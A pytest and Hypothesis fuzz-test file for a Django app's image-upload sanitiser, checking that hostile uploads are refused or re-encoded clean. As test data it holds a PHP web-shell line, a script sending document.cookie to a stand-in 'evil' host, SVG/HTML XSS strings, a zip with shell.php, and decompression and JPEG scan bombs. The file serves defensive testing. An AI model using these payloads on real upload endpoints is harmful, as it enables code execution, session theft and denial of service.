"""Uploads fuzzed with malformed and hostile pictures against accounts.images.

The property, for every input: `process_image` either refuses it with a ValidationError that
carries a clear message and one of the module's codes, or returns it re-encoded: it decodes
cleanly with Pillow, is a single-frame JPEG, PNG or WebP whose extension matches, fits the size
asked for, carries no EXIF / XMP / ICC / text chunk / comment from the upload (nor any byte of a
smuggled payload), and has a generated name. Any other exception fails the test.

Inputs: random bytes; truncated JPEG/PNG/WebP at random offsets; random byte flips; PNG IHDR,
JPEG SOF and WebP VP8X headers declaring absurd sizes (PNG with a correct CRC so Pillow trusts
it); decompression bombs; other formats (GIF, BMP, TIFF, ICO, PDF, ...) and SVG/HTML/PHP text;
polyglots (a JPEG with PHP, HTML or a zip appended, payloads in comments and text chunks);
CMYK, 16-bit, palette-with-alpha and other colour modes; EXIF orientations 1..8 (and nonsense
ones) and huge EXIF blocks; animated PNG (APNG) and WebP. Runtime is kept to a few seconds
per test (modest `max_examples`, pictures of at most a few hundred pixels).
"""

import io
import re
import struct
import zipfile
import zlib
from functools import cache

import pytest
from django.core.exceptions import ValidationError
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from PIL import Image, ImageCms, ImageDraw, PngImagePlugin

from accounts import images
from accounts.images import AVATAR_SIDE, SERVICE_IMAGE_SIDE, process_image

FUZZ = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
FEW = settings(FUZZ, max_examples=15)

GENERATED_NAME = re.compile(r"^[0-9a-f]{32}\.(jpg|png|webp)$")
EXTENSIONS = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp"}
REFUSAL_CODES = {
    "invalid_type",
    "corrupt",
    "too_many_pixels",
    "too_complex",
    "file_too_large",
    "empty",
}
SECRET = b"TIMZ-SECRET-7f3a9c"
# Byte patterns of metadata containers that must never reach the stored file.
METADATA_MARKERS = (
    b"Exif\x00\x00",  # JPEG APP1 EXIF
    b"http://ns.adobe.com/xap/1.0/",  # XMP
    b"ICC_PROFILE",  # JPEG APP2 ICC
    b"iCCP",  # PNG ICC chunk
    b"eXIf",  # PNG EXIF chunk
    b"tEXt",
    b"iTXt",
    b"zTXt",
    b"acTL",  # APNG animation control
    b"ANIM",  # WebP animation
)


# Building pictures ---------------------------------------------------------------------------


def picture(size=(96, 64), mode="RGB") -> Image.Image:
    """A small picture with shapes and a gradient (compresses like a photo, not a flat fill)."""
    image = Image.linear_gradient("L").resize(size).convert("RGB")
    draw = ImageDraw.Draw(image)
    w, h = size
    draw.ellipse((w // 5, h // 5, w * 3 // 5, h * 4 // 5), fill=(200, 40, 60))
    draw.rectangle((w // 2, h // 3, w - 2, h - 2), fill=(30, 160, 90))
    if mode == "RGBA":
        image.putalpha(Image.linear_gradient("L").resize(size))
    elif mode != "RGB":
        image = image.convert(mode)
    return image


def encode(image: Image.Image, fmt: str, **params) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


@cache
def sample(fmt: str) -> bytes:
    """A valid file of each accepted format (WebP with alpha, to exercise that path too)."""
    if fmt == "WEBP":
        return encode(picture(mode="RGBA"), "WEBP", quality=80)
    if fmt == "PNG":
        return encode(picture(mode="RGBA"), "PNG")
    return encode(picture(), "JPEG", quality=90)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def png_file(
    width: int,
    height: int,
    *,
    bit_depth=8,
    color_type=2,
    interlace=0,
    idat: bytes | None = b"",
    end=True,
) -> bytes:
    """A PNG built by hand: IHDR with a correct CRC (Pillow trusts it), then IDAT and IEND."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, interlace)
    data = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr)
    if idat is not None:
        data += png_chunk(b"IDAT", idat)
    if end:
        data += png_chunk(b"IEND", b"")
    return data


@cache
def png_bomb(width: int, height: int) -> bytes:
    """A 1-bit greyscale PNG whose IDAT really inflates to width x height pixels of zeros."""
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte + packed bits
    squeeze = zlib.compressobj(9)
    chunks = [squeeze.compress(row * 256) for _ in range(height // 256)]
    chunks.append(squeeze.compress(row * (height % 256)))
    chunks.append(squeeze.flush())
    return png_file(width, height, bit_depth=1, color_type=0, idat=b"".join(chunks))


def jpeg_with_size(width: int, height: int) -> bytes:
    """The sample JPEG with its SOF header patched to declare width x height."""
    data = bytearray(sample("JPEG"))
    sof = next(i for i in range(len(data) - 1) if data[i] == 0xFF and data[i + 1] in (0xC0, 0xC2))
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def webp_vp8x(width: int, height: int, flags: int = 0x10, payload: bytes = b"") -> bytes:
    """An extended WebP declaring a canvas of width x height (24-bit minus-one fields)."""
    vp8x = bytes([flags, 0, 0, 0]) + (width - 1).to_bytes(3, "little")
    vp8x += (height - 1).to_bytes(3, "little")
    body = b"WEBP" + b"VP8X" + struct.pack("<I", len(vp8x)) + vp8x
    inner = sample("WEBP")[12:]  # the sample's own chunks (VP8L or ALPH+VP8)
    body += payload or inner
    return b"RIFF" + struct.pack("<I", len(body)) + body


def exif_block(*, orientation: int | None = None, filler: int = 0) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SpyCam " + SECRET.decode()  # Make
    exif[0x0131] = "SecretEditor"  # Software
    if orientation is not None:
        exif[0x0112] = orientation
    if filler:
        exif[0x010E] = "x" * filler  # ImageDescription
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (48.0, 51.0, 24.0)
    return exif.tobytes()


@cache
def srgb_icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def xmp_packet() -> bytes:
    return (
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">'
        b"<dc:creator>" + SECRET + b"</dc:creator></rdf:Description></rdf:RDF>"
        b'</x:xmpmeta><?xpacket end="w"?>'
    )


# The property --------------------------------------------------------------------------------


def outcome(data: bytes, *, max_side: int = AVATAR_SIDE, square: bool = False, secrets=()):
    """Run process_image; check a refusal or a clean result. Returns the decoded result or None."""
    try:
        result = process_image(io.BytesIO(data), max_side=max_side, square=square)
    except ValidationError as exc:
        assert exc.code in REFUSAL_CODES, exc.code
        assert exc.messages and all(len(m) > 20 for m in exc.messages), exc.messages
        return None
    return check_clean(result, max_side=max_side, square=square, secrets=secrets)


def refusal(data: bytes, **kwargs) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        process_image(io.BytesIO(data), max_side=AVATAR_SIDE, **kwargs)
    assert caught.value.code in REFUSAL_CODES
    return caught.value


def check_clean(result, *, max_side: int, square: bool, secrets=()) -> Image.Image:
    assert GENERATED_NAME.match(result.name), result.name
    result.seek(0)
    raw = result.read()
    with Image.open(io.BytesIO(raw)) as probe:
        probe.verify()
    image = Image.open(io.BytesIO(raw))
    image.load()
    assert image.format in EXTENSIONS
    assert result.name.endswith("." + EXTENSIONS[image.format])
    assert 1 <= image.width <= max_side and 1 <= image.height <= max_side
    if square:
        assert image.width == image.height
    assert getattr(image, "n_frames", 1) == 1
    assert not getattr(image, "is_animated", False)
    assert image.mode in ("RGB", "RGBA")
    for key in ("exif", "icc_profile", "xmp", "XML:com.adobe.xmp", "comment", "dpi"):
        assert key not in image.info, key
    assert not getattr(image, "text", {})
    assert dict(image.getexif()) == {}
    for marker in (*METADATA_MARKERS, SECRET, *secrets):
        assert marker not in raw, marker
    return image


# Random and damaged bytes --------------------------------------------------------------------


@FUZZ
@given(st.binary(max_size=4096))
@example(b"")
@example(b"\xff\xd8\xff")
@example(b"\x89PNG\r\n\x1a\n")
@example(b"RIFF\x00\x00\x00\x00WEBPVP8 ")
def test_random_bytes_are_refused(data):
    assert outcome(data) is None


@FUZZ
@given(fmt=st.sampled_from(["JPEG", "PNG", "WEBP"]), cut=st.floats(0, 1, exclude_max=True))
def test_truncated_pictures_are_refused_or_clean(fmt, cut):
    data = sample(fmt)
    outcome(data[: int(len(data) * cut)])


@FUZZ
@given(
    fmt=st.sampled_from(["JPEG", "PNG", "WEBP"]),
    flips=st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.integers(0, 255)), max_size=8),
)
def test_pictures_with_flipped_bytes_are_refused_or_clean(fmt, flips):
    data = bytearray(sample(fmt))
    for where, value in flips:
        data[int(len(data) * where)] = value
    outcome(bytes(data))


@FUZZ
@given(
    fmt=st.sampled_from(["JPEG", "PNG", "WEBP"]),
    head=st.integers(0, 64),
    junk=st.binary(min_size=1, max_size=512),
)
def test_pictures_with_junk_spliced_in_are_refused_or_clean(fmt, head, junk):
    data = sample(fmt)
    outcome(data[: head + 12] + junk + data[head + 12 :])


def test_truncated_samples_do_not_slip_through_as_valid():
    for fmt in ("JPEG", "PNG", "WEBP"):
        data = sample(fmt)
        assert refusal(data[: len(data) // 2]).code == "corrupt"


# Headers declaring absurd sizes ----------------------------------------------------------------


@FUZZ
@given(
    width=st.integers(0, 2**31 - 1),
    height=st.integers(0, 2**31 - 1),
    bit_depth=st.sampled_from([1, 2, 4, 8, 16, 0, 3, 32, 255]),
    color_type=st.sampled_from([0, 2, 3, 4, 6, 1, 5, 7, 255]),
    interlace=st.sampled_from([0, 1, 2]),
    idat=st.none() | st.binary(max_size=64) | st.just(zlib.compress(b"\x00" * 4096)),
    end=st.booleans(),
)
@example(
    width=2**31 - 1, height=2**31 - 1, bit_depth=8, color_type=2, interlace=0, idat=b"", end=True
)
@example(width=2**31 - 1, height=1, bit_depth=8, color_type=6, interlace=0, idat=b"", end=True)
@example(width=6000, height=6000, bit_depth=16, color_type=6, interlace=1, idat=b"", end=True)
@example(width=0, height=0, bit_depth=8, color_type=2, interlace=0, idat=b"", end=True)
def test_png_headers_with_any_size_and_layout_are_refused_or_clean(
    width, height, bit_depth, color_type, interlace, idat, end
):
    data = png_file(
        width,
        height,
        bit_depth=bit_depth,
        color_type=color_type,
        interlace=interlace,
        idat=idat,
        end=end,
    )
    outcome(data)


@pytest.mark.parametrize(
    ("width", "height"), [(2**31 - 1, 2**31 - 1), (2**31 - 1, 1), (1, 2**31 - 1), (40001, 1000)]
)
def test_png_header_over_the_pixel_limit_is_refused_as_too_many_pixels(width, height):
    assert refusal(png_file(width, height)).code == "too_many_pixels"


@FUZZ
@given(width=st.integers(0, 65535), height=st.integers(0, 65535))
@example(width=65535, height=65535)
@example(width=0, height=64)
def test_jpeg_frame_headers_with_any_size_are_refused_or_clean(width, height):
    outcome(jpeg_with_size(width, height))


@FEW
@given(width=st.integers(1, 2**24), height=st.integers(1, 2**24), flags=st.integers(0, 255))
@example(width=2**24, height=2**24, flags=0x10)
@example(width=16383, height=16383, flags=0x02)
def test_webp_canvas_headers_with_any_size_are_refused_or_clean(width, height, flags):
    outcome(webp_vp8x(width, height, flags))


@pytest.mark.parametrize(
    ("width", "height"),
    [(20_000, 20_000), (8_000, 8_000), (100_000, 500)],
    ids=["400MP-pillow-bomb", "64MP-over-our-limit", "50MP-one-long-strip"],
)
def test_decompression_bombs_are_refused_without_being_expanded(width, height):
    data = png_bomb(width, height)
    assert len(data) < 200_000  # a tiny file...
    error = refusal(data)
    # ...refused from its header (the pixel check runs before any decoding), never inflated.
    assert error.code == "too_many_pixels"
    assert "too many pixels" in error.messages[0]


def test_a_real_bomb_just_under_the_limit_is_decoded_and_shrunk(settings):
    """A 4 MP (limit lowered to 5 MP) 1-bit bomb is legitimately decodable: shrunk, stored."""
    settings.IMAGE_MAX_PIXELS = 5_000_000
    result = outcome(png_bomb(2000, 2000), max_side=SERVICE_IMAGE_SIDE)
    assert result is not None and result.size == (SERVICE_IMAGE_SIDE, SERVICE_IMAGE_SIDE)


# Progressive scan bombs (a real bug found by this work, fixed in accounts.images) -------------


def jpeg_segments(data: bytes) -> list[tuple[int, int, int]]:
    """(start, end, marker) of each JPEG segment; a scan's entropy-coded data belongs to it."""
    out, i = [], 2
    while i < len(data):
        marker = data[i + 1]
        if marker == 0xD9:
            out.append((i, i + 2, marker))
            break
        end = i + 2 + struct.unpack(">H", data[i + 2 : i + 4])[0]
        if marker == 0xDA:
            while data[(end := data.index(b"\xff", end)) + 1] == 0 or (
                0xD0 <= data[end + 1] <= 0xD7
            ):
                end += 2
        out.append((i, end, marker))
        i = end
    return out


@cache
def scan_bomb(side: int, extra_scans: int) -> bytes:
    """A progressive JPEG whose last scan (with its Huffman table) is repeated: libjpeg warns
    about the bogus progression but decodes every repeat over the whole picture."""
    data = encode(Image.new("L", (side, side), 128), "JPEG", progressive=True, quality=90)
    segments = jpeg_segments(data)
    last = max(n for n, seg in enumerate(segments) if seg[2] == 0xDA)
    first = last - 1 if segments[last - 1][2] == 0xC4 else last
    repeat = data[segments[first][0] : segments[last][1]]
    eoi = segments[-1][0]
    return data[:eoi] + repeat * extra_scans + data[eoi:]


def test_a_progressive_scan_bomb_is_refused_before_decoding():
    """Regression: 500 repeated scans of a 4 MP picture (a 34 kB file) took 2.8 s of CPU to
    decode, 1,000 over 36 MP (223 kB) took 22 s, so a 5 MB upload would hold a worker for
    minutes. It is now refused from a count of its markers, before any decoding."""
    data = scan_bomb(2000, 500)
    assert len(data) < 60_000
    error = refusal(data)
    # "too_complex" comes only from the marker count that runs before decoding.
    assert error.code == "too_complex"
    assert "progressive passes" in error.messages[0]


def test_ordinary_progressive_jpegs_are_accepted():
    data = encode(picture(size=(300, 200)), "JPEG", progressive=True, quality=90)
    assert 5 <= data.count(b"\xff\xda") <= images.MAX_JPEG_SCANS
    assert outcome(data, max_side=SERVICE_IMAGE_SIDE).size == (300, 200)


@FEW
@given(extra=st.integers(0, 2 * images.MAX_JPEG_SCANS))
@example(extra=images.MAX_JPEG_SCANS)
def test_repeated_scans_are_accepted_up_to_the_limit_then_refused(extra):
    data = scan_bomb(64, extra)
    result = outcome(data)
    assert (result is None) == (data.count(b"\xff\xda") > images.MAX_JPEG_SCANS)


# Other formats and text payloads -------------------------------------------------------------


def _other_format_files() -> dict[str, bytes]:
    files = {}
    base = picture(size=(40, 30))
    for fmt, mode, params in [
        ("GIF", "P", {}),
        ("BMP", "RGB", {}),
        ("TIFF", "RGB", {}),
        ("TIFF", "CMYK", {"compression": "tiff_lzw"}),
        ("ICO", "RGBA", {}),
        ("PDF", "RGB", {}),
        ("PPM", "RGB", {}),
        ("TGA", "RGB", {}),
        ("PCX", "RGB", {}),
        ("SGI", "RGB", {}),
        ("DDS", "RGBA", {}),
        ("QOI", "RGB", {}),
        ("JPEG2000", "RGB", {}),
        ("EPS", "RGB", {}),
    ]:
        try:
            files[f"{fmt}-{mode}"] = encode(base.convert(mode), fmt, **params)
        except (KeyError, OSError, ValueError):
            continue  # a format this Pillow build cannot write is not an upload risk here
    gif = io.BytesIO()
    base.convert("P").save(gif, "GIF", save_all=True, append_images=[base.convert("P")] * 2)
    files["animated-GIF"] = gif.getvalue()
    files["SVG"] = (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b'<script>alert(1)</script><rect width="10" height="10"/></svg>'
    )
    files["SVG-named-like-png"] = b"<svg onload=alert(1)>"
    files["HTML"] = b"<!doctype html><html><body><script>alert(document.cookie)</script>"
    files["PHP"] = b"<?php system($_GET['c']); ?>"
    files["GIF-header-PHP"] = b"GIF89a<?php system($_GET['c']); ?>"
    files["ZIP"] = _zip_bytes()
    return files


def _zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("shell.php", "<?php echo 'pwned'; ?>")
    return out.getvalue()


OTHER_FORMATS = _other_format_files()


@pytest.mark.parametrize("name", sorted(OTHER_FORMATS))
def test_other_formats_and_text_payloads_are_refused_as_the_wrong_type(name):
    error = refusal(OTHER_FORMATS[name])
    assert error.code == "invalid_type"
    assert error.messages == [images.MSG_TYPE]


def test_the_usual_other_formats_are_all_covered():
    assert {"GIF-P", "BMP-RGB", "TIFF-RGB", "ICO-RGBA", "PDF-RGB", "SVG", "HTML"} <= set(
        OTHER_FORMATS
    )


@FEW
@given(name=st.sampled_from(sorted(OTHER_FORMATS)), cut=st.floats(0.05, 1))
def test_truncated_other_formats_are_refused(name, cut):
    data = OTHER_FORMATS[name]
    assert outcome(data[: max(1, int(len(data) * cut))]) is None


# Polyglots and smuggled payloads -------------------------------------------------------------

PAYLOADS = {
    "php": b"<?php system($_GET['cmd']); /*" + SECRET + b"*/ ?>",
    "html": b"<html><script>fetch('//evil/'+document.cookie)</script>" + SECRET + b"</html>",
    "zip": _zip_bytes() + SECRET,
}


@pytest.mark.parametrize("payload", sorted(PAYLOADS))
@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_polyglot_with_appended_payload_is_stored_without_it(fmt, payload):
    data = sample(fmt) + PAYLOADS[payload]
    result = outcome(data, secrets=(b"<?php", b"<script", b"PK\x03\x04"))
    # Pillow ignores bytes after the end of the picture: it is accepted, minus the payload.
    assert result is not None


@FUZZ
@given(fmt=st.sampled_from(["JPEG", "PNG", "WEBP"]), tail=st.binary(min_size=1, max_size=2048))
def test_any_trailing_bytes_are_dropped(fmt, tail):
    outcome(sample(fmt) + tail + SECRET)


def test_payload_in_a_jpeg_comment_is_dropped():
    data = encode(picture(), "JPEG", comment=PAYLOADS["php"])
    assert SECRET in data
    assert outcome(data, secrets=(b"<?php",)) is not None


def test_payload_in_png_text_chunks_is_dropped():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", PAYLOADS["html"].decode())
    info.add_itxt("Description", PAYLOADS["php"].decode(), zip=True)
    info.add_text("Author", SECRET.decode(), zip=True)
    data = encode(picture(), "PNG", pnginfo=info)
    assert outcome(data, secrets=(b"<script",)) is not None


# Colour modes ------------------------------------------------------------------------------


def _palette_with_alpha() -> bytes:
    image = picture(size=(64, 48)).convert("P", palette=Image.Palette.ADAPTIVE, colors=16)
    return encode(image, "PNG", transparency=0)


def _palette_with_alpha_table() -> bytes:
    image = picture(size=(64, 48)).convert("P", palette=Image.Palette.ADAPTIVE, colors=16)
    return encode(image, "PNG", transparency=bytes(range(0, 256, 16)))


def _cmyk_jpeg_adobe() -> bytes:
    return encode(picture().convert("CMYK"), "JPEG", quality=90)


def _sixteen_bit_png() -> bytes:
    return encode(
        Image.linear_gradient("L")
        .resize((80, 60))
        .convert("I")
        .point(lambda v: v * 257)
        .convert("I;16"),
        "PNG",
    )


MODE_FILES = {
    "cmyk-jpeg": _cmyk_jpeg_adobe,
    "grey-jpeg": lambda: encode(picture().convert("L"), "JPEG"),
    "16-bit-grey-png": _sixteen_bit_png,
    "palette-with-alpha-index": _palette_with_alpha,
    "palette-with-alpha-table": _palette_with_alpha_table,
    "palette-opaque": lambda: encode(picture().convert("P"), "PNG"),
    "grey-alpha-png": lambda: encode(picture(mode="RGBA").convert("LA"), "PNG"),
    "1-bit-png": lambda: encode(picture().convert("1"), "PNG"),
    "rgba-webp": lambda: encode(picture(mode="RGBA"), "WEBP", lossless=True),
    "rgba-png-fully-transparent": lambda: encode(Image.new("RGBA", (30, 20)), "PNG"),
    "grey-webp": lambda: encode(picture().convert("L"), "WEBP"),
}


@pytest.mark.parametrize("name", sorted(MODE_FILES))
def test_unusual_colour_modes_come_out_clean(name):
    result = outcome(MODE_FILES[name](), max_side=SERVICE_IMAGE_SIDE)
    assert result is not None


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("palette-with-alpha-index", "PNG"),
        ("palette-with-alpha-table", "PNG"),
        ("grey-alpha-png", "PNG"),
        ("rgba-webp", "WEBP"),
        ("cmyk-jpeg", "JPEG"),
        ("16-bit-grey-png", "JPEG"),
    ],
)
def test_transparency_decides_the_output_format(name, expected):
    assert outcome(MODE_FILES[name](), max_side=SERVICE_IMAGE_SIDE).format == expected


def test_sixteen_bit_grey_keeps_its_tones():
    result = outcome(_sixteen_bit_png(), max_side=SERVICE_IMAGE_SIDE).convert("L")
    low, high = result.getextrema()
    assert low < 20 and high > 235  # scaled into 8 bits, not clipped to white


@FUZZ
@given(
    mode=st.sampled_from(["RGB", "RGBA", "L", "LA", "P", "CMYK", "1", "I", "I;16", "PA"]),
    fmt=st.sampled_from(["JPEG", "PNG", "WEBP"]),
    width=st.integers(1, 700),
    height=st.integers(1, 700),
    square=st.booleans(),
)
def test_any_mode_and_size_that_saves_comes_out_clean(mode, fmt, width, height, square):
    try:
        data = encode(picture(size=(width, height)).convert(mode), fmt)
    except (OSError, ValueError, KeyError):
        return  # Pillow cannot write this mode in this format: nothing to upload
    result = outcome(data, square=square)
    assert result is not None
    if square:
        assert result.size[0] == min(AVATAR_SIDE, width, height)


# EXIF, XMP, ICC --------------------------------------------------------------------------------

# A 120x80 picture turned by each EXIF orientation: 1-4 keep the size, 5-8 swap it.
ORIENTED_SIZE = {n: ((120, 80) if n <= 4 else (80, 120)) for n in range(1, 9)}


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize("orientation", range(1, 9))
def test_every_exif_orientation_is_applied_then_stripped(orientation, fmt):
    data = encode(picture(size=(120, 80)), fmt, exif=exif_block(orientation=orientation))
    assert SECRET in data
    result = outcome(data, max_side=SERVICE_IMAGE_SIDE)
    assert result.size == ORIENTED_SIZE[orientation]


def test_orientation_really_turns_the_pixels():
    """Orientation 6 (turned 90° clockwise): the red disc left of centre ends up at the top."""
    data = encode(picture(size=(120, 80)), "JPEG", quality=95, exif=exif_block(orientation=6))
    image = outcome(data, max_side=SERVICE_IMAGE_SIDE)
    assert image.size == (80, 120)
    red, _green, _blue = image.getpixel((40, 36))
    assert red > 150


@FUZZ
@given(
    fmt=st.sampled_from(["JPEG", "PNG", "WEBP"]),
    orientation=st.integers(0, 65535),
    filler=st.integers(0, 3000),
)
@example(fmt="JPEG", orientation=0, filler=0)
@example(fmt="JPEG", orientation=9, filler=0)
@example(fmt="PNG", orientation=65535, filler=0)
def test_any_orientation_value_and_exif_size_is_handled(fmt, orientation, filler):
    data = encode(picture(), fmt, exif=exif_block(orientation=orientation, filler=filler))
    outcome(data)


@pytest.mark.parametrize(
    ("fmt", "filler"), [("JPEG", 60_000), ("PNG", 2_000_000), ("WEBP", 2_000_000)]
)
def test_huge_exif_blocks_are_stripped(fmt, filler):
    data = encode(picture(), fmt, exif=exif_block(orientation=3, filler=filler))
    assert len(data) > filler
    result = outcome(data, max_side=SERVICE_IMAGE_SIDE)
    assert result is not None and len(result.tobytes()) > 0


@FEW
@given(fmt=st.sampled_from(["JPEG", "PNG", "WEBP"]), junk=st.binary(min_size=1, max_size=600))
def test_garbage_exif_blocks_are_handled(fmt, junk):
    outcome(encode(picture(), fmt, exif=b"Exif\x00\x00" + junk))


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_xmp_and_icc_profiles_are_dropped(fmt):
    if fmt == "PNG":  # Pillow writes PNG XMP as the standard iTXt chunk
        info = PngImagePlugin.PngInfo()
        info.add_itxt("XML:com.adobe.xmp", xmp_packet().decode())
        data = encode(picture(), fmt, icc_profile=srgb_icc(), pnginfo=info)
    else:
        data = encode(picture(), fmt, icc_profile=srgb_icc(), xmp=xmp_packet())
    assert SECRET in data
    assert outcome(data, max_side=SERVICE_IMAGE_SIDE, secrets=(b"x:xmpmeta",)) is not None


@FEW
@given(fmt=st.sampled_from(["JPEG", "PNG", "WEBP"]), icc=st.binary(min_size=1, max_size=2048))
def test_broken_icc_profiles_are_handled(fmt, icc):
    outcome(encode(picture(), fmt, icc_profile=icc), secrets=(icc,) if len(icc) >= 16 else ())


# Animations --------------------------------------------------------------------------------


def _animation(fmt: str, *, frames=3, **params) -> bytes:
    first, *rest = [picture(size=(64, 48), mode="RGBA").rotate(30 * n) for n in range(frames)]
    return encode(first, fmt, save_all=True, append_images=rest, duration=100, loop=0, **params)


@pytest.mark.parametrize("fmt", ["PNG", "WEBP"])
def test_animations_are_stored_as_a_single_still(fmt):
    data = _animation(fmt)
    assert Image.open(io.BytesIO(data)).n_frames == 3
    result = outcome(data, max_side=SERVICE_IMAGE_SIDE)
    assert result is not None and result.size == (64, 48)


@FEW
@given(
    fmt=st.sampled_from(["PNG", "WEBP"]),
    frames=st.integers(2, 6),
    cut=st.floats(0.3, 1, exclude_max=True),
)
def test_truncated_animations_are_refused_or_clean(fmt, frames, cut):
    data = _animation(fmt, frames=frames)
    outcome(data[: int(len(data) * cut)])


# End to end: the profile form --------------------------------------------------------------


def _hostile_corpus() -> list[tuple[str, bytes]]:
    jpeg = sample("JPEG")
    return [
        ("truncated.jpg", jpeg[: len(jpeg) // 3]),
        ("random.png", bytes(range(256)) * 8),
        ("polyglot.jpg", jpeg + PAYLOADS["php"]),
        ("exif.jpg", encode(picture(), "JPEG", exif=exif_block(orientation=8))),
        ("anim.png", _animation("PNG")),
        ("anim.webp", _animation("WEBP")),
        ("cmyk.jpg", _cmyk_jpeg_adobe()),
        ("palette.png", _palette_with_alpha()),
        ("bomb.png", png_bomb(8_000, 8_000)),
        ("scans.jpg", scan_bomb(64, 2 * images.MAX_JPEG_SCANS)),
        ("header.png", png_file(2**31 - 1, 2**31 - 1)),
        ("page.svg", OTHER_FORMATS["SVG"]),
        ("doc.pdf", OTHER_FORMATS["PDF-RGB"]),
        ("anim.gif", OTHER_FORMATS["animated-GIF"]),
    ]


HOSTILE = _hostile_corpus()


@pytest.mark.django_db
@FEW
@given(pick=st.sampled_from(HOSTILE), name=st.sampled_from(["avatar.jpg", "x.php", "../../a.png"]))
def test_profile_upload_of_hostile_files_is_refused_or_stored_clean(client, pick, name):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from accounts.models import ClientProfile
    from conftest import make_user

    user = make_user()
    client.force_login(user)
    _label, data = pick
    response = client.post(
        reverse("accounts:profile"),
        {
            "display_name": "Fuzz",
            "timezone": "UTC",
            "avatar": SimpleUploadedFile(name, data, content_type="image/jpeg"),
        },
    )
    profile = ClientProfile.objects.get(user=user)
    if response.status_code == 302:
        stored = profile.avatar
        assert re.fullmatch(r"avatars/[0-9a-f]{32}\.(jpg|png|webp)", stored.name)
        with stored.open("rb") as handle:
            raw = handle.read()
        result = io.BytesIO(raw)
        result.name = stored.name.split("/")[-1]
        check_clean(result, max_side=AVATAR_SIDE, square=True)
    else:
        assert response.status_code in (200, 400)
        assert 'class="errorlist' in response.content.decode()
        assert not profile.avatar
